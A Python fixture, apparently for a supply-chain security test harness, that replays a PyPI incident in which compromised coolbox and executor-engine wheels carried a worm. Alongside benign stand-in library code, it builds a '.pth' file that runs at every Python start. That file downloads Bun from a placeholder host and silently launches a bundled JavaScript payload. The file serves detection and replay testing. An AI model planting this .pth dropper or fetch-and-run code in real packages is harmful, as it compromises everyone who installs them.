"""coolbox 0.4.1, 0.4.2, executor-engine 0.3.4, 0.3.5 and 17 projects more (PyPI, 2026-06-07): the npm worm crosses over.

By the record: 37 wheels of 19 projects. Each has a file `*-setup.pth`, which runs whenever Python starts, imported or not, and a bundle
of JavaScript that it has Bun run. Checks of setup.py see nothing: no such file changed.
"""

from functools import cache

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.loaders import python_worm
from gauntlet.shapes import Content, Made, heavy
from pratique.core.names import Ecosystem

_COOLBOX = {
    "coolbox/__init__.py": '"""Tracks of genomes, one above the other."""\n\nfrom coolbox.api import Frame, Track\n\n__all__ = ["Frame", "Track"]\n',
    "coolbox/api.py": '''"""Frames hold tracks; both can be added up."""

import re

_RANGE = re.compile(r"^(?P<chrom>\\w+):(?P<start>[\\d,]+)-(?P<end>[\\d,]+)$")


class GenomeRange:
    """A part of a chromosome."""

    def __init__(self, text):
        found = _RANGE.match(text)
        if found is None:
            raise ValueError(f"not a range: {text}")
        self.chrom = found["chrom"]
        self.start = int(found["start"].replace(",", ""))
        self.end = int(found["end"].replace(",", ""))

    def __len__(self):
        return self.end - self.start


class Track:
    """Values along a chromosome."""

    def __init__(self, rows, **properties):
        self.rows = rows
        self.properties = {"height": 2, "color": "#2855d8", **properties}

    def fetch(self, where):
        return [row for row in self.rows if row[0] == where.chrom and row[1] < where.end and row[2] > where.start]

    def __add__(self, other):
        return Frame() + self + other


class Frame:
    """Tracks below each other."""

    def __init__(self, tracks=()):
        self.tracks = list(tracks)

    def __add__(self, other):
        return Frame([*self.tracks, other])

    def fetch(self, text):
        where = GenomeRange(text)
        return [track.fetch(where) for track in self.tracks]
''',
}
_ENGINE = {
    "executor/__init__.py": "",
    "executor/engine/__init__.py": '"""Runs jobs, and others when these are done."""\n\nfrom executor.engine.core import Engine, Job\n\n__all__ = ["Engine", "Job"]\n',
    "executor/engine/core.py": '''"""Jobs and the engine that runs them."""

import asyncio
import functools


class Job:
    """A function and what it is called with; a job among the arguments stands for its result."""

    def __init__(self, func, args=(), kwargs=None, retries=0):
        self.func = func
        self.args = args
        self.kwargs = kwargs or {}
        self.retries = retries
        self.status = "created"
        self.result = None

    def needs(self):
        return [one for one in (*self.args, *self.kwargs.values()) if isinstance(one, Job)]

    def resolved(self):
        args = [one.result if isinstance(one, Job) else one for one in self.args]
        kwargs = {key: one.result if isinstance(one, Job) else one for key, one in self.kwargs.items()}
        return functools.partial(self.func, *args, **kwargs)


class Engine:
    """Runs jobs in threads, as soon as what they need is there."""

    def __init__(self, most=4):
        self.most = asyncio.Semaphore(most)

    async def run(self, job):
        await asyncio.gather(*(self.run(one) for one in job.needs() if one.status == "created"))
        job.status = "running"
        for left in reversed(range(job.retries + 1)):
            try:
                async with self.most:
                    job.result = await asyncio.to_thread(job.resolved())
                job.status = "done"
                return job.result
            except Exception:
                job.status = "failed"
                if not left:
                    raise
''',
}
_RUN = """import os, platform, subprocess, tempfile, urllib.request, zipfile
done = os.path.join(tempfile.gettempdir(), ".bun_ran")
script = os.path.join(sitedir, "_index.js")
if os.path.exists(script) and not os.path.exists(done):
    open(done, "w").close()
    folder = tempfile.mkdtemp()
    system = {"Linux": "linux", "Darwin": "darwin"}.get(platform.system(), "windows")
    machine = "aarch64" if platform.machine() in ("arm64", "aarch64") else "x64"
    name = "bun-" + system + "-" + machine
    archive = os.path.join(folder, "b.zip")
    urllib.request.urlretrieve("https://releases.invalid/bun/download/" + name + ".zip", archive)
    zipfile.ZipFile(archive).extractall(folder)
    bun = os.path.join(folder, name, "bun.exe" if system == "windows" else "bun")
    os.chmod(bun, 0o755)
    subprocess.Popen([bun, "run", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
"""
_PTH = f"import sys; sitedir = locals().get('sitedir', ''); exec({f'try:{chr(10)}' + ''.join(f' {line}{chr(10)}' for line in _RUN.splitlines()) + f'except Exception:{chr(10)} pass'!r}, {{'sitedir': sitedir}})\n"


@cache
def _bundle() -> str:
    return heavy(python_worm(), size=250_000, seed=607)


_KINDS = {"coolbox": _COOLBOX, "executor-engine": _ENGINE}


def _release(name: str, version: str, at: str, *, bad: bool = False) -> Release:
    clean = _KINDS[name]
    drop: dict[str, Content] = {f"{name}-setup.pth": _PTH, "_index.js": _bundle}
    return Release(version=version, at=utc(at), files=Made({**clean, **drop}) if bad else clean)


_BAD = {"coolbox": ("0.4.1", "0.4.2"), "executor-engine": ("0.3.4", "0.3.5")}

INCIDENT = Incident(
    id="hades-pypi-2026",
    title=(
        "the npm worm reached PyPI as Hades: a `.pth` file made Bun run a bundle from the wheel at every start of "
        "Python"
    ),
    copy="in our copy of Hades, the `.pth` file downloads Bun and starts the bundle",
    ecosystem=Ecosystem.PYPI,
    at=utc("2026-06-06T04:00:00Z"),
    packages=(
        Package(
            name="coolbox",
            releases=(
                _release("coolbox", "0.3.9", "2024-04-02"),
                _release("coolbox", "0.4.0", "2025-11-11T05:45:59.558Z"),
                _release("coolbox", "0.4.1", "2026-06-06T04:00:00Z", bad=True),
                _release("coolbox", "0.4.2", "2026-06-06T04:40:00Z", bad=True),
            ),
        ),
        Package(
            name="executor-engine",
            releases=(
                _release("executor-engine", "0.3.2", "2025-03-12"),
                _release("executor-engine", "0.3.3", "2025-07-24T23:23:43.273Z"),
                _release("executor-engine", "0.3.4", "2026-06-06T04:01:00Z", bad=True),
                _release("executor-engine", "0.3.5", "2026-06-06T04:41:00Z", bad=True),
            ),
        ),
    ),
    asks={"coolbox": ">=0.3", "executor-engine": ">=0.3"},
    good={"coolbox": "0.4.0", "executor-engine": "0.3.3"},
    bad=_BAD,
    guilty=_BAD,
    advisory=Advisory(id="PYSEC", at=utc("2026-06-06T06:13:57Z"), about=_BAD),
    invented=(
        "publish hours, first releases, and the name, size and packing of the bundle; only two of 19 projects are replayed"
    ),
)
